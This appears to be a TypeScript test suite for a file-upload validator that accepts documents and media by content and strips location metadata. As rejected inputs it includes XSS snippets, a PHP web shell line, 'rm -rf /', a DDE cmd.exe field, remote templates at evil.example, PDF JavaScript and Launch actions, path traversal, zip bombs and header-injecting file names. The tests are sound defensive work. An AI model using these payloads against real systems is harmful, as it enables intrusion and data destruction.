import assert from 'node:assert/strict';
import { test } from 'node:test';
import { inflateSync } from 'node:zlib';
import { checkFile, cleanFileName } from '../../packages/server/src/files/check.js';
import * as made from '../support/files.js';

/** What comes of a file: its type, or the code of the refusal. */
const judge = async (name: string, bytes: Uint8Array): Promise<string> => {
  try {
    return (await checkFile(name, bytes)).type;
  } catch (error) {
    const { fault } = error as { fault?: string };
    if (!fault) throw error;
    return fault;
  }
};
const kept = async (name: string, bytes: Uint8Array) => Buffer.from((await checkFile(name, bytes)).bytes);
const text = (bytes: Buffer) => bytes.toString('latin1');

test('documents, pictures, sound and film are taken, by content', async () => {
  const office = 'application/vnd.openxmlformats-officedocument';
  for (const [name, bytes, type] of [
    ['照片.jpg', made.jpeg, 'image/jpeg'],
    ['照片.JPEG', made.jpeg, 'image/jpeg'],
    ['a.png', made.png, 'image/png'],
    ['a.gif', made.gif, 'image/gif'],
    ['a.webp', made.webp, 'image/webp'],
    ['材料.pdf', made.pdf(), 'application/pdf'],
    ['材料.docx', made.docx(), `${office}.wordprocessingml.document`],
    ['表.xlsx', made.xlsx(), `${office}.spreadsheetml.sheet`],
    ['旧.doc', made.compound('WordDocument', '1Table'), 'application/msword'],
    ['旧.xls', made.compound('Workbook'), 'application/vnd.ms-excel'],
    ['说明.txt', Buffer.from('政务公开，一行文字。\r\n'), 'text/plain'],
    ['gbk.txt', Buffer.from('d5fecef1b9abbfaa', 'hex'), 'text/plain'],
    ['unicode.txt', Buffer.from('\ufeff政务公开', 'utf16le'), 'text/plain'],
    ['录音.mp3', made.mp3, 'audio/mpeg'],
    ['录像.mp4', made.mp4, 'video/mp4'],
  ] as const)
    assert.equal(await judge(name, bytes), type, name);
});

test('a name that disagrees with the content, and an ending that is not taken, are refused', async () => {
  for (const [name, bytes] of [
    ['a.png', made.jpeg],
    ['a.jpg', made.png],
    ['a.txt', made.jpeg],
    ['a.pdf', made.docx()],
    ['a.docx', made.xlsx()],
    ['a.docx', made.zip([{ name: 'a.txt', data: 'a' }])],
    ['a.doc', made.compound('Workbook')],
    ['a.xls', made.compound('SomethingElse')],
    ['a.jpg', Buffer.from('plain text')],
    ['a.svg', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>')],
    ['a.html', Buffer.from('<p>')],
    ['a.exe', made.jpeg],
    ['a', made.jpeg],
    ['jpg', made.jpeg],
    ['a.txt', Buffer.from([1, 2, 3, 4])],
    ['a.txt', Buffer.from('one\0two')],
    ['a.txt', Buffer.from([0xff, 0xff, 0x80, 0x80])],
  ] as const)
    assert.equal(await judge(name, bytes), 'file_type', name);
});

test('pages, scripts, programs and the test file of the virus scanners are refused, whatever they are called', async () => {
  const program = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(100), Buffer.from('PE\0\0')]);
  for (const [name, bytes] of [
    ['a.txt', Buffer.from('<!DOCTYPE html><script>alert(1)</script>')],
    ['a.txt', Buffer.from('你好 <img src=x onerror=alert(1)>')],
    ['a.txt', Buffer.from('<svg onload=alert(1)>')],
    ['a.txt', Buffer.from('<?php system($_GET[0]); ?>')],
    ['a.txt', made.eicar],
    ['a.jpg', Buffer.concat([made.jpeg, made.eicar])],
    ['a.docx', made.docx({ name: 'word/media/a.txt', data: made.eicar })],
    ['a.pdf', made.pdf(`9 0 obj\n(${made.eicar.toString('latin1')})\nendobj\n`)],
    ['a.txt', Buffer.from('#!/bin/sh\nrm -rf /')],
    ['a.jpg', program],
    ['a.txt', Buffer.from('\x7fELF', 'latin1')],
  ] as const)
    assert.equal(await judge(name, bytes), 'file_active', `${name} ${bytes.subarray(0, 30)}`);
});

test('what is two files at once is refused', async () => {
  const archive = made.zip([{ name: 'a.txt', data: 'hidden' }]);
  for (const [name, bytes] of [
    ['a.jpg', Buffer.concat([made.jpeg, archive])],
    ['a.png', Buffer.concat([made.png, archive])],
    ['a.gif', Buffer.concat([made.gif, archive])],
    ['a.webp', Buffer.concat([made.webp, archive])],
    ['a.pdf', Buffer.concat([made.pdf(), archive])],
    ['a.mp3', Buffer.concat([made.mp3, archive])],
    ['a.mp4', Buffer.concat([made.mp4, made.mp4Box('free', archive)])],
    ['a.doc', Buffer.concat([made.compound('WordDocument'), archive])],
    ['a.txt', Buffer.concat([Buffer.from('text '), archive])],
    ['a.jpg', Buffer.concat([made.jpeg, Buffer.from('<html><script>alert(1)</script>')])],
    ['a.png', Buffer.concat([made.png, made.pdf()])],
    ['a.pdf', made.pdf('', '<script>alert(1)</script>')],
    ['a.docx', made.zip(made.docxParts, 'a note with <script>')],
    ['a.docx', Buffer.concat([made.docx(), Buffer.from('more')])],
  ] as const)
    assert.equal(await judge(name, bytes), 'file_active', name);
});

test('macros, programs, remote templates and paths inside of documents are refused', async () => {
  const rels = (type: string) =>
    `<Relationships><Relationship Id="r" Type="http://x/${type}" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>`;
  for (const bytes of [
    made.docx({ name: 'word/vbaProject.bin', data: 'x' }),
    made.docx({ name: 'WORD/VBAPROJECT.BIN', data: 'x' }),
    made.docx({ name: 'word/activeX/activeX1.xml', data: 'x' }),
    made.docx({ name: 'word/media/run.exe', data: 'x' }),
    made.docx({ name: 'word/embeddings/oleObject1.bin', data: made.compound('\x01Ole10Native') }),
    made.docx({ name: 'word/embeddings/book.xlsx', data: made.xlsx({ name: 'xl/vbaProject.bin', data: 'x' }) }),
    made.docx({ name: 'word/_rels/settings.xml.rels', data: rels('attachedTemplate') }),
    made.docx({ name: 'word/_rels/x.rels', data: rels('oleObject') }),
    made.docx({ name: 'word/footer.xml', data: '<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText>' }),
    made.docx({ name: '../../../etc/cron.d/x', data: 'x' }),
    made.docx({ name: '/etc/passwd', data: 'x' }),
    made.docx({ name: 'C:\\Windows\\x', data: 'x' }),
  ])
    assert.equal(await judge('a.docx', bytes), 'file_active');
  for (const [name, bytes] of [
    ['a.xlsx', made.xlsx({ name: 'xl/macrosheets/sheet1.xml', data: 'x' })],
    ['a.doc', made.compound('WordDocument', 'Macros')],
    ['a.xls', made.compound('Workbook', '_VBA_PROJECT_CUR')],
    ['a.doc', made.compound('WordDocument', '\x01Ole10Native')],
    ['a.pdf', made.pdf('9 0 obj\n<</S/JavaScript/JS(app.alert(1))>>\nendobj\n')],
    ['a.pdf', made.pdf('9 0 obj\n<</S/J#61vaScript/J#53(app.alert(1))>>\nendobj\n')],
    ['a.pdf', made.pdf(made.packedObject('9 0 <</S/JavaScript/JS(app.alert(1))>>'))],
    ['a.pdf', made.pdf('9 0 obj\n<</S/Launch/F(cmd.exe)>>\nendobj\n')],
    ['a.pdf', made.pdf('9 0 obj\n<</Names<</EmbeddedFiles 8 0 R>>>>\nendobj\n')],
  ] as const)
    assert.equal(await judge(name, bytes), 'file_active', name);
});

test('bombs and passwords are refused before memory is spent', async () => {
  const zeros = Buffer.alloc(30 * 1024 * 1024);
  const bombs = [
    made.docx(...Array.from({ length: 5 }, (_, i) => ({ name: `word/media/${i}.xml`, data: zeros }))),
    // The directory says that it is small.
    made.docx({ name: 'word/media/big.xml', data: zeros, size: 10 }),
    made.docx({ name: 'word/secret.xml', data: 'x', flags: 1 }),
    made.zip(Array.from({ length: 6000 }, (_, i) => ({ name: `word/${i}`, data: '', stored: true }))),
    made.docx({
      name: 'a.docx',
      data: made.docx({ name: 'b.docx', data: made.docx({ name: 'c.docx', data: made.docx() }) }),
    }),
  ];
  const before = process.memoryUsage().rss;
  for (const [i, bytes] of bombs.entries()) assert.equal(await judge('a.docx', bytes), 'file_archive', String(i));
  assert.ok(process.memoryUsage().rss - before < 250 * 1024 * 1024);
  // Two entries that share their bytes.
  const shared = made.docx({ name: 'word/media/a.xml', data: 'same' }, { name: 'word/media/b.xml', data: 'same' });
  const places: number[] = [];
  for (let at = shared.indexOf('PK\x01\x02'); at >= 0; at = shared.indexOf('PK\x01\x02', at + 4)) places.push(at);
  const [one, two] = places.slice(-2) as [number, number];
  shared.writeUInt32LE(shared.readUInt32LE(one + 42), two + 42);
  assert.equal(await judge('a.docx', shared), 'file_archive');
  assert.equal(await judge('a.docx', made.compound('EncryptedPackage', 'EncryptionInfo')), 'file_archive');
  assert.equal(await judge('a.pdf', made.pdf('9 0 obj\n<</Encrypt 8 0 R>>\nendobj\n')), 'file_archive');
  assert.equal(
    await judge('a.pdf', made.pdf(made.packedObject(Buffer.alloc(80 * 1024 * 1024).toString('latin1')))),
    'file_archive',
  );
});

test('a file that breaks off or contradicts itself is refused, at whatever byte it is cut', async () => {
  for (const [name, bytes] of [
    ['a.jpg', made.photograph()],
    ['a.png', made.png],
    ['a.webp', made.webpWithPlace],
    ['a.docx', made.docx()],
  ] as const)
    for (let at = 0; at < bytes.length - 60; at += 7)
      assert.match(await judge(name, bytes.subarray(0, at)), /^file_/, `${name} cut at ${at}`);
  const damaged = Buffer.from(made.png);
  damaged[40]! ^= 1;
  assert.equal(await judge('a.png', damaged), 'file_broken');
  assert.equal(await judge('a.jpg', Buffer.alloc(0)), 'file_broken');
  assert.equal(await judge('a.txt', Buffer.alloc(10485761, 65)), 'file_size');
});

test('any bytes are judged, none with an error of the program', async () => {
  let seed = 7;
  const below = (n: number) => (seed = (Math.imul(seed, 1103515245) + 12345) >>> 0) % n;
  const files = [
    ['a.jpg', made.photograph()],
    ['a.png', made.pngWithPlace],
    ['a.gif', made.gifWithPlace],
    ['a.webp', made.webpWithPlace],
    ['a.pdf', made.pdf(made.packedObject('1 0 <<>>'))],
    ['a.docx', made.docx()],
    ['a.doc', made.compound('WordDocument', '1Table', 'Data')],
    ['a.mp3', made.mp3WithPlace],
    ['a.mp4', made.mp4],
  ] as const;
  for (let i = 0; i < 3000; i++) {
    const [name, bytes] = files[i % files.length]!;
    const changed = Buffer.from(bytes);
    for (let k = below(6); k >= 0; k--) changed[below(changed.length)] = below(256);
    await judge(name, changed);
  }
});

test('a photograph loses place, maker, comment and what stands behind its end, and stays turned as it was', async () => {
  const original = made.photograph(6);
  assert.ok(text(original).includes(made.PLACE) && text(original).includes(made.MAKER));
  const stripped = await kept('a.jpg', original);
  for (const word of [made.PLACE, made.MAKER, 'xmpmeta', 'Photoshop', 'comment', 'MotionPhoto'])
    assert.ok(!text(stripped).includes(word), word);
  // Orientation is the one thing of EXIF that is kept.
  const at = stripped.indexOf('Exif\0\0');
  assert.ok(at > 0);
  assert.equal(stripped.readUInt16BE(at + 6 + 8 + 2 + 8), 6);
  // The picture itself is the same to the bit: tables and scan.
  assert.ok(stripped.includes(made.jpeg.subarray(20)));
  const upright = await kept('a.jpg', made.photograph(1));
  assert.deepEqual(upright, made.jpeg);
});

test('PNG, WebP, GIF and MP3 lose what tells place and maker, too, and keep the picture', async () => {
  for (const [name, bytes] of [
    ['a.png', made.pngWithPlace],
    ['a.webp', made.webpWithPlace],
    ['a.gif', made.gifWithPlace],
    ['a.mp3', made.mp3WithPlace],
  ] as const) {
    assert.ok(text(Buffer.from(bytes)).includes(made.PLACE));
    const stripped = await kept(name, bytes);
    assert.ok(!text(stripped).includes(made.PLACE) && !text(stripped).includes(made.MAKER), name);
    assert.notEqual(await judge(name, stripped), 'file_broken');
    assert.deepEqual(await kept(name, stripped), stripped, `${name}: nothing is left to strip`);
  }
  const data = (bytes: Buffer) => {
    const at = bytes.indexOf('IDAT');
    return inflateSync(bytes.subarray(at + 4, at + 4 + bytes.readUInt32BE(at - 4)));
  };
  assert.deepEqual(data(await kept('a.png', made.pngWithPlace)), data(made.png));
  assert.ok(!text(await kept('a.png', made.png)).includes('date:create'));
  const flags = (await kept('a.webp', made.webpWithPlace))[20]!;
  assert.equal(flags & 0x0c, 0, 'no promise of EXIF and XMP is left');
  assert.ok((await kept('a.gif', made.gifWithPlace)).includes('NETSCAPE2.0'));
});

test('a name is a name alone: no folder, no sign that nobody sees, none that turns the direction of reading', () => {
  for (const [given, clean] of [
    ['../../etc/passwd.txt', 'passwd.txt'],
    ['C:\\fakepath\\照片.jpg', '照片.jpg'],
    ['a\u202Egpj.exe.jpg', 'agpj.exe.jpg'],
    ['.htaccess', 'htaccess'],
    ['a\r\nSet-Cookie: x=1.jpg', 'aSet-Cookie x=1.jpg'],
    ['a<b>"c".png', 'abc.png'],
    [`${'长'.repeat(300)}.pdf`, `${'长'.repeat(96)}.pdf`],
    ['𠮷𬱖.png', '𠮷𬱖.png'],
  ] as const)
    assert.equal(cleanFileName(given), clean);
});
